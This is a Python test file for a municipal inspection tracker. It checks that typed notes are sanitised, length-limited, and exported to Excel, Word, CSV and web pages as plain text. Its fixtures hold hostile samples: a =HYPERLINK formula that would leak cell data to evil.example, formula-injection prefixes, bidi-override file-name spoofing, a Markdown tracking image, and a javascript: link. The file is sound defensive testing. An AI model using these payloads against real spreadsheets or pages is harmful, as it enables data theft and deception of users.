"""Hostile text (issue 22): what a person types — a note pasted from Word with its manual line break (U+000B), a
bidirectional override, a NUL, a =HYPERLINK(…), Markdown — is cleaned once where a service stores it
(tracker.text.clean), refused in words when too long (never cut), written by every .xlsx/.docx/.csv writer
whatever its age, never a live formula, and shown on the pages as the characters typed."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import zipfile

import docx
import openpyxl
import pandas as pd
import pytest

from tests.scenario import add
from tests.test_briefing import AS_OF, scenario
from tracker import bootstrap, text
from tracker.access import audit
from tracker.access.auth import Actor
from tracker.cli import main
from tracker.files import MAX_CELL, SafeWorkbook, csv_bytes
from tracker.inspections import findings, rounds, sites
from tracker.inspections.imports import import_findings
from tracker.inspections.sites import InspectionError
from tracker.office import acceptance, evidence, figures, tasks
from tracker.office.verification import verify
from tracker.reports import archive, briefing, briefing_issue, reminders
from tracker.reports.briefing import document, model

OFFICE = Actor("王主任", "admin")
CITY = Actor("城管李", "reporter", "城管执法局")
NOW = dt.datetime(2024, 3, 15, 10, 0)
PDF = b"%PDF-1.4\n" + b"stream " * 200 + b"\n%%EOF\n"
PNG = (
    b"\x89PNG\r\n\x1a\n"
    + b"\x00\x00\x00\rIHDR"
    + b"\x00\x00\x00\x01\x00\x00\x00\x01\x08\x02\x00\x00\x00"
    + b"\x00" * 64
)

# Word's manual line break, a right-to-left override, a NUL, a terminal escape and a lone surrogate (which UTF-8,
# hence DuckDB, cannot even store): stored as the line break it meant and the visible rest.
HOSTILE = " 见附件\x0b第2页\u202e\x00\x1b[2J\ud800 "
CLEAN = "见附件\n第2页[2J"
ONE_LINE = "见附件 第2页[2J"
XML_ILLEGAL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")


def pdf(n: int = 0) -> bytes:
    return PDF + str(n).encode()


def sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/"))


def cells(data: bytes, sheet: str | None = None) -> list[list]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    ws = book[sheet] if sheet else book.active
    return [list(r) for r in ws.iter_rows(values_only=True)]


FILES = "文件清单"  # the archive 目录's list of every file (its first sheet lists the items)


@pytest.fixture
def con():
    con = bootstrap.connect(":memory:")
    yield con
    con.close()


# ---------------------------------------------------------------- the one function


@pytest.mark.parametrize(
    ("typed", "one_line", "stored"),
    [
        (HOSTILE, False, CLEAN),
        (HOSTILE, True, ONE_LINE),
        ("第一行\r\n第二行\r第三行\u2028第四行", False, "第一行\n第二行\n第三行\n第四行"),
        ("呼创卫办督〔2026〕\n12号", True, "呼创卫办督〔2026〕 12号"),
        ("abc\u202egnp.exe\u2066x\u2069", False, "abcgnp.exex"),  # the overrides that reorder what is shown
        ("\ufeff零宽\u200f标记\x7f\x85下行", False, "零宽标记\n下行"),
        ('=HYPERLINK("https://e.x","点此")', False, '=HYPERLINK("https://e.x","点此")'),  # text stays text
        (None, False, ""),
        ("   ", False, ""),
    ],
)
def test_clean_keeps_what_was_meant_and_drops_what_breaks_files(typed, one_line, stored):
    assert text.clean(typed, "note", one_line=one_line) == stored
    assert not XML_ILLEGAL.search(text.xml_safe(typed))


def test_text_over_its_limit_is_refused_in_words_never_cut():
    assert text.clean("字" * 2000, "evidence_note") == "字" * 2000
    with pytest.raises(
        ValueError, match=r"^佐证材料说明过长：2001 个字，最多 2000 个字。请精简后再提交（内容未保存）$"
    ):
        text.clean("字" * 2001, "evidence_note")
    # the limit counts what is kept: 2,000 characters and a few invisible ones fit
    assert len(text.clean("字" * 2000 + "\u202e\x00", "evidence_note")) == 2000


def test_every_field_has_words_in_both_languages():
    from tracker.strings.text import FIELD

    assert set(FIELD["zh"]) == set(FIELD["en"]) == set(text.LIMITS)


# ---------------------------------------------------------------- every service that stores free text


def test_evidence_notes_and_removal_reasons(con):
    m = add(con, "10.3", "2025年", 82)
    link = evidence.attach_file(con, pdf(1), "a.pdf", "measurement", m, OFFICE, HOSTILE)
    other = evidence.store_file(con, pdf(2), "b.pdf", OFFICE)
    second = evidence.attach(con, other, "measurement", m, OFFICE, note=HOSTILE)
    notes = con.execute("SELECT note FROM evidence_link ORDER BY id").fetchall()
    assert notes == [(CLEAN,), (CLEAN,)]
    evidence.remove(con, second, OFFICE, HOSTILE)
    assert con.execute("SELECT detail FROM audit_log WHERE action = 'evidence_remove'").fetchall() == [
        (CLEAN,)
    ]
    files, links = con.execute(
        "SELECT (SELECT count(*) FROM evidence_file), count(*) FROM evidence_link"
    ).fetchone()
    with pytest.raises(evidence.EvidenceError, match="佐证材料说明过长：2001 个字") as refused:
        evidence.attach_file(con, pdf(3), "c.pdf", "measurement", m, OFFICE, "字" * 2001)
    assert refused.value.reason == "too_long"
    with pytest.raises(evidence.EvidenceError, match="理由过长"):
        evidence.remove(con, link, OFFICE, "字" * 2001)
    # nothing kept of the refused file, the link still there
    assert con.execute(
        "SELECT (SELECT count(*) FROM evidence_file), count(*) FROM evidence_link"
    ).fetchone() == (
        files,
        links,
    )
    assert con.execute("SELECT removed_at FROM evidence_link WHERE id = ?", [link]).fetchone() == (None,)


def test_task_descriptions_notes_and_reasons(con):
    task = tasks.open_task(con, OFFICE, "10.3", HOSTILE, dt.date(2026, 6, 30))
    tasks.update_task(con, CITY, task, "in_progress", HOSTILE)
    tasks.edit_task(con, OFFICE, task, description=HOSTILE + "（改）")
    tasks.close_task(con, OFFICE, task, HOSTILE)
    assert tasks.get(con, task)["description"] == CLEAN + " （改）"  # HOSTILE's last space is inside now
    assert tasks.get(con, task)["close_reason"] == CLEAN
    notes = [
        n
        for (n,) in con.execute(
            "SELECT note FROM task_event WHERE task_id = ? ORDER BY id", [task]
        ).fetchall()
    ]
    assert notes[1] == CLEAN and notes[-1] == CLEAN
    for call, field in (
        (lambda: tasks.open_task(con, OFFICE, "10.3", "字" * 2001, dt.date(2026, 6, 30)), "整改要求"),
        (lambda: tasks.update_task(con, OFFICE, task, "open", "字" * 2001), "整改说明"),
        (lambda: tasks.edit_task(con, OFFICE, task, description="字" * 2001), "整改要求"),
    ):
        before = con.execute("SELECT count(*) FROM task_event").fetchone()[0]
        with pytest.raises(tasks.TaskError, match=f"{field}过长：2001 个字，最多 2000 个字"):
            call()
        assert con.execute("SELECT count(*) FROM task_event").fetchone()[0] == before
    assert con.execute("SELECT count(*) FROM task").fetchone()[0] == 1


def test_acceptance_basis_and_withdrawal_reason(con):
    add(con, "12.1", "2023年", 38.5, recorded_at="2024-01-10 09:00:00")
    add(con, "12.2", "2023年", 9.2, recorded_at="2024-01-10 09:00:00")
    add(con, "12.3", "2023年", 1, unit="创卫办", recorded_at="2024-01-10 09:00:00")
    with pytest.raises(acceptance.AcceptanceError, match="验收依据过长：2001 个字"):
        acceptance.accept(con, 12, OFFICE, AS_OF, "字" * 2001)
    acceptance.accept(con, 12, OFFICE, AS_OF, HOSTILE, now=NOW)
    acceptance.withdraw(con, 12, OFFICE, HOSTILE, now=NOW + dt.timedelta(hours=1))
    assert con.execute("SELECT evidence, withdrawn_reason FROM acceptance").fetchall() == [(CLEAN, CLEAN)]


def test_verification_and_figure_notes(con):
    add(con, "2.2", "2025年", 1, recorded_at="2026-02-01 09:00:00")
    verify(con, "2.2", "2025年", OFFICE, HOSTILE, now=dt.datetime(2026, 2, 20, 15))
    assert con.execute("SELECT note FROM verification").fetchall() == [(CLEAN,)]
    from tracker.office.verification import VerificationError

    with pytest.raises(VerificationError, match="核实依据过长"):
        verify(con, "2.2", "2025年", OFFICE, "字" * 2001)
    with pytest.raises(figures.FigureError, match="采用说明过长"):
        figures.choose(con, "10.3", "2025年", "城管执法局", actor=OFFICE, note="字" * 2001)


@pytest.fixture
def inspected(con):
    """A site, a 暗访 round over it and one 否决风险 finding, the office's."""
    site = sites.register_site(con, OFFICE, "公共厕所", "站前公厕", "铁东街道", now=NOW)
    rid = rounds.create_round(
        con, OFFICE, "暗访", "三月暗访", dt.date(2024, 3, 1), dt.date(2024, 3, 10), now=NOW
    )
    fid = findings.record_finding(con, OFFICE, rid, site, "干净整洁", HOSTILE, "否决风险",
                                  found_on=dt.date(2024, 3, 5), now=NOW)  # fmt: skip
    return con, site, rid, fid


def test_findings_descriptions_answers_and_rechecks(inspected):
    con, _, _, fid = inspected
    assert findings.get(con, fid)["description"] == CLEAN
    task = findings.get(con, fid)["task_id"]
    assert CLEAN in tasks.get(con, task)["description"]  # the task quotes the finding, cleaned
    findings.answer_finding(con, OFFICE, fid, HOSTILE, photo=(PNG, "整改\x0b后.png"), now=NOW)
    findings.reinspect(con, OFFICE, fid, False, HOSTILE, deadline=NOW.date() + dt.timedelta(days=7), now=NOW)
    notes = [n for (n,) in con.execute("SELECT note FROM finding_event WHERE finding_id = ? ORDER BY rowid", [fid])
             .fetchall()]  # fmt: skip
    assert notes[1] == CLEAN and CLEAN in notes[2]
    assert con.execute("SELECT file_name FROM evidence_link").fetchall() == [("整改后.png",)]
    # a description of 1,000 characters still fits its task's description and notes, 1,001 is refused
    long = findings.record_finding(
        con, OFFICE, 1, 1, "干净整洁", "字" * 1000, "一般", found_on=dt.date(2024, 3, 6)
    )
    with pytest.raises(InspectionError, match="整改答复过长"):
        findings.answer_finding(con, OFFICE, long, "字" * 1001)
    findings.answer_finding(con, OFFICE, long, "字" * 1000)
    with pytest.raises(InspectionError, match="复查意见过长"):
        findings.reinspect(con, OFFICE, long, True, "字" * 1001)
    findings.reinspect(con, OFFICE, long, False, "字" * 1000, deadline=dt.date.today() + dt.timedelta(days=7))
    with pytest.raises(InspectionError, match="问题描述过长：1001 个字，最多 1000 个字"):
        findings.record_finding(
            con, OFFICE, 1, 1, "干净整洁", "字" * 1001, "一般", found_on=dt.date(2024, 3, 6)
        )


def test_rounds_and_sites(con):
    site = sites.register_site(con, OFFICE, "学校", "第一\x0b中学\u202e", "兴华街道", address=HOSTILE)
    assert con.execute("SELECT name, address FROM site WHERE id = ?", [site]).fetchone() == (
        "第一中学",
        ONE_LINE,
    )
    rid = rounds.create_round(con, OFFICE, "模拟检查", HOSTILE, dt.date(2024, 3, 1), dt.date(2024, 3, 2),
                              team=HOSTILE)  # fmt: skip
    assert con.execute("SELECT name, team FROM inspection_round WHERE id = ?", [rid]).fetchone() == (
        ONE_LINE,
        ONE_LINE,
    )
    with pytest.raises(InspectionError, match="地址过长：201 个字，最多 200 个字"):
        sites.register_site(con, OFFICE, "学校", "第二中学", "兴华街道", address="字" * 201)


def test_imported_findings_are_cleaned_and_an_overlong_description_refuses_its_row(con):
    sites.register_site(con, OFFICE, "公共厕所", "站前公厕", "铁东街道", now=NOW)
    sheet = (
        "检查类型,检查日期,点位,点位类型,街道/乡镇,项目,问题描述,严重程度,责任单位,整改期限\n"
        f'暗访,2024-03-05,站前公厕,公共厕所,铁东街道,干净整洁,"便池\x0b污垢\u202e",一般,,\n'
        f"暗访,2024-03-05,站前公厕,公共厕所,铁东街道,干净整洁,{'字' * 1001},一般,,\n"
    )
    rounds.create_round(con, OFFICE, "暗访", "三月暗访", dt.date(2024, 3, 1), dt.date(2024, 3, 10), now=NOW)
    result = import_findings(con, OFFICE, "问题.csv", sheet.encode("utf-8-sig"), now=NOW)
    assert result.accepted == 1
    assert con.execute("SELECT description FROM finding").fetchall() == [("便池\n污垢",)]
    [refused] = result.refused_rows
    assert refused.row == 3 and any("问题描述过长：1001 个字，最多 1000 个字" in r for r in refused.reasons)


def test_document_numbers(con):
    scenario(con)
    with pytest.raises(reminders.ReminderError, match="文号过长：300 个字，最多 60 个字"):
        reminders.send(con, OFFICE, AS_OF, "号" * 300, unit="住建局", now=NOW)
    with pytest.raises(briefing_issue.IssueError, match="文号过长：300 个字，最多 60 个字"):
        briefing_issue.issue(con, OFFICE, AS_OF, "号" * 300)
    assert con.execute("SELECT count(*) FROM reminder").fetchone()[0] == 0
    notice = reminders.send(con, OFFICE, AS_OF, "创卫办督\x0b〔2024〕\u202e1号", unit="住建局", now=NOW)
    assert notice.doc_number == "创卫办督 〔2024〕1号"
    assert "创卫办督 〔2024〕1号" in "\n".join(
        p.text for p in docx.Document(io.BytesIO(notice.data)).paragraphs
    )
    issued = briefing_issue.issue(con, OFFICE, AS_OF, "创卫办\x0b〔2024〕2号", issue_no="第\x003期", now=NOW)
    assert (issued.number, issued.issue_no) == ("创卫办 〔2024〕2号", "第3期")


# ---------------------------------------------------------------- the writers, also for text stored before the fix


def test_the_safe_workbook_writes_any_text_and_cuts_only_visibly():
    wb = SafeWorkbook()
    ws = wb.sheet("表\x0b一")
    long = "字" * 40000
    wb.row(ws, 0, ["见附件\x0b第2页", "a\rb", long, "\t=1+1", " =1+1"])
    data = wb.close()
    assert "<f>" not in sheet_xml(data)
    row = cells(data)[0]
    assert row[:2] == ["见附件\n第2页", "a\nb"]
    assert len(row[2]) == MAX_CELL and row[2].endswith("（单元格容量所限，以下省略；全文 40000 字）")
    assert row[3:] == ["\t=1+1", " =1+1"]


def test_a_csv_cell_never_holds_a_bare_carriage_return():
    frame = pd.DataFrame({"detail": ["第一行\r第二行", "=1+1", "a\x0bb"], "n": [1, 2, 3]})
    data = csv_bytes(frame)
    assert b"\r" not in data
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows == [["detail", "n"], ["第一行\n第二行", "1"], ["'=1+1", "2"], ["a\nb", "3"]]
    log = pd.DataFrame({"actor": ["王主任"], "detail": ["备注\r伪造的一行,admin,login"]})
    rows = list(csv.reader(io.StringIO(audit.to_csv(log).decode("utf-8-sig"))))
    assert rows == [["actor", "detail"], ["王主任", "备注\n伪造的一行,admin,login"]]


def test_docx_writers_survive_control_characters_already_stored(con):
    scenario(con)
    figures_owed = reminders.owed(con, AS_OF, unit="住建局")
    data = reminders.to_docx("号\x0b\x001", AS_OF, figures_owed, "住建局", AS_OF)
    assert "号\n1" in "\n".join(p.text for p in docx.Document(io.BytesIO(data)).paragraphs)
    con.execute("UPDATE task SET description = ?", ["见附件\x0b第2页\x01"])  # as stored before the fix
    b = model.build(con, AS_OF, charts=False, number="创卫\x0b办", issue_no="第\x013期")
    assert "见附件\n第2页" in "\n".join(
        c.text for t in docx.Document(io.BytesIO(document.to_docx(b))).tables for r in t.rows for c in r.cells
    )
    assert "<f>" not in sheet_xml(briefing.write(con, AS_OF, ".xlsx", number="x")[0])


@pytest.fixture
def stored_bad(tmp_path):
    """A database file whose evidence note, task description and open 暗访 finding were stored before the fix:
    a vertical tab, a NUL, an override."""
    path = tmp_path / "t.duckdb"
    con = bootstrap.connect(path)
    scenario(con)
    m = add(con, "10.3", "2025年", 82)
    evidence.attach_file(con, pdf(), "台账.pdf", "measurement", m, OFFICE, "x", now=NOW)
    site = sites.register_site(con, OFFICE, "公共厕所", "站前公厕", "铁东街道", now=NOW)
    rid = rounds.create_round(
        con, OFFICE, "暗访", "三月暗访", dt.date(2024, 3, 1), dt.date(2024, 3, 10), now=NOW
    )
    findings.record_finding(
        con, OFFICE, rid, site, "干净整洁", "x", "否决风险", found_on=dt.date(2024, 3, 5), now=NOW
    )
    raw = "见附件\x0b第2页\x00\u202e"
    con.execute("UPDATE evidence_link SET note = ?", [raw])
    con.execute("UPDATE task SET description = ?", [raw])
    con.execute("UPDATE finding SET description = ?", [raw])
    con.close()
    return path


def test_the_command_line_exports_what_was_stored_before(stored_bad, tmp_path, capsys):
    out = tmp_path / "档案.zip"
    assert main(["archive", "export", str(out), "--db", str(stored_bad)]) == 0
    with zipfile.ZipFile(out) as z:
        index = z.read("目录.xlsx")
    assert cells(index, FILES)[1][8] == "见附件\n第2页"
    for suffix in (".docx", ".xlsx"):
        report = tmp_path / f"通报{suffix}"
        assert (
            main(["report", "--as-of", AS_OF.isoformat(), "--out", str(report), "--db", str(stored_bad)]) == 0
        )
        assert report.stat().st_size > 0
    body = docx.Document(str(tmp_path / "通报.docx"))
    assert "见附件\n第2页" in "\n".join(c.text for t in body.tables for r in t.rows for c in r.cells)
    assert "内部错误" not in capsys.readouterr().err


# ---------------------------------------------------------------- 导出档案: 目录.xlsx and the names inside the zip


@pytest.mark.parametrize(
    "note",
    ['=HYPERLINK("https://evil.example/?x="&A1,"点此")', "\t=1+1", " =1+1", "+1+1", "@SUM(A1)", "－1"],
)
def test_no_note_becomes_a_live_formula_in_the_index(con, note, tmp_path):
    m = add(con, "10.3", "2025年", 82)
    evidence.attach_file(con, pdf(), "台账.pdf", "measurement", m, OFFICE, note, now=NOW)
    con.execute(
        "INSERT INTO evidence_link (sha256, target, target_id, file_name, attached_at, attached_by, note) "
        "SELECT sha256, target, target_id, '旧.pdf', attached_at, attached_by, ? FROM evidence_link",
        [note],
    )  # fmt: skip  (the same note stored raw, before the fix)
    out = tmp_path / "a.zip"
    archive.write_archive(con, out)
    with zipfile.ZipFile(out) as z:
        index = z.read("目录.xlsx")
    assert "<f>" not in sheet_xml(index)
    notes = [r[8] for r in cells(index, FILES)[1:]]
    assert notes == [note.strip(), note]  # as typed (the service trims), as text
    ws = openpyxl.load_workbook(io.BytesIO(index))[FILES]
    assert ws.cell(2, 5).hyperlink.target.endswith("台账.pdf")  # the path still opens its file


def test_long_file_names_fit_a_zip_member_keeping_their_suffix_and_stay_unique(con, tmp_path):
    m = add(con, "10.3", "2025年", 82)
    name = "长" * 116 + ".pdf"  # 120 characters, 352 bytes: with its prefix, far over a file system's 255
    evidence.attach_file(con, pdf(1), name, "measurement", m, OFFICE, now=NOW)
    evidence.attach_file(con, pdf(2), name, "measurement", m, OFFICE, now=NOW)
    out = tmp_path / "a.zip"
    archive.write_archive(con, out)
    with zipfile.ZipFile(out) as z:
        members = [n for n in z.namelist() if n != "目录.xlsx"]
    last = [n.rsplit("/", 1)[1] for n in members]
    assert all(len(n.encode()) <= 255 for n in last), [len(n.encode()) for n in last]
    assert all(n.endswith(".pdf") for n in last) and len(set(members)) == 2
    assert last[0].startswith("10.3 2025年 城管执法局 - 长长") and last[1].endswith(" (2).pdf")
    # 「10.3 2025年 城管执法局 - 」 is 31 bytes, 「.pdf」 4: 73 characters of 3 bytes fit in the 220 left, 254 in all
    assert len(last[0].encode()) == 31 + 73 * 3 + 4


# ---------------------------------------------------------------- the pages show text as text (AppTest)

LINK = "[点此查看整改报告](https://evil.example/r)"
IMAGE = "![t](https://evil.example/track.png)"
UNESCAPED = re.compile(r"javascript(?<!\\):|(?<!\\)[\[\]]\(|(?<!\\)!\[|https?(?<!\\):|<img|<a ")


@pytest.fixture
def page_db(tmp_path, monkeypatch):
    from app import webapp

    path = tmp_path / "pages.duckdb"
    con = bootstrap.connect(path)
    m = add(con, "10.3", "2025年", 82, recorded_at="2026-01-10 09:00:00")
    evidence.attach_file(con, pdf(1), "**粗体**[x](javascript:alert(1)).pdf", "measurement", m, OFFICE, LINK)
    evidence.attach_file(con, pdf(2), "台账.pdf", "item", 10, OFFICE, IMAGE)
    con.close()
    monkeypatch.setenv("TRACKER_DB", str(path))
    webapp._connection.clear()
    yield path
    webapp._connection.clear()


def test_notes_and_file_names_on_the_item_page_are_shown_as_typed(page_db):
    from streamlit.testing.v1 import AppTest

    from tests.conftest import ROOT

    at = AppTest.from_file(str(ROOT / "dashboard.py"), default_timeout=300)  # the machine may be busy
    at.session_state["actor"] = OFFICE
    at.session_state["as_of"] = dt.date(2026, 11, 28)
    at.session_state["item_pick"] = 10
    # straight to the page: the landing page's run is asserted by nothing
    at.switch_page("pages/item.py").run()
    assert not at.exception, [e.value for e in at.exception]
    shown = [e.value for e in (*at.markdown, *at.caption)]
    carrying = [s for s in shown if "点此查看整改报告" in s or "track" in s or "粗体" in s]
    assert len(carrying) >= 3, shown  # the two notes and the file name are on the page …
    assert not [s for s in carrying if UNESCAPED.search(s)], carrying  # … none of them as a link or an image
    assert any(r"\[点此查看整改报告\]\(https\:" in s for s in carrying)
    assert any(r"\!\[t\]\(https\:" in s for s in carrying)
    assert any(r"\*\*粗体\*\*" in s for s in carrying)


def test_an_upload_s_notes_are_cleaned_as_every_typed_text(tmp_path):
    """The set-based import stores notes and evidence cells by the same rule as the services (tracker.text):
    Word's manual line break becomes a line break, ESC and a bidi override are removed — and what it stores is
    what xml_safe would keep, character for character."""
    from tracker import bootstrap, text
    from tracker.ingest import import_file

    note = "见附件\x0b第2页\x1b[31m\u202etxt.exe"
    data = (
        f'单位,指标,区域,期间,数值,备注,证明材料\n城管执法局,10.3,,2025,85%,"{note}",照片\u202e1\n'.encode()
    )
    con = bootstrap.connect(tmp_path / "t.duckdb")
    result = import_file(con, "n.csv", data, unit="城管执法局")
    assert result.accepted == 1, result.message
    stored_note, evidence = con.execute("SELECT note, evidence FROM measurement").fetchone()
    assert stored_note == "见附件\n第2页[31mtxt.exe" == text.xml_safe(note)
    assert evidence == "照片1"
    con.close()
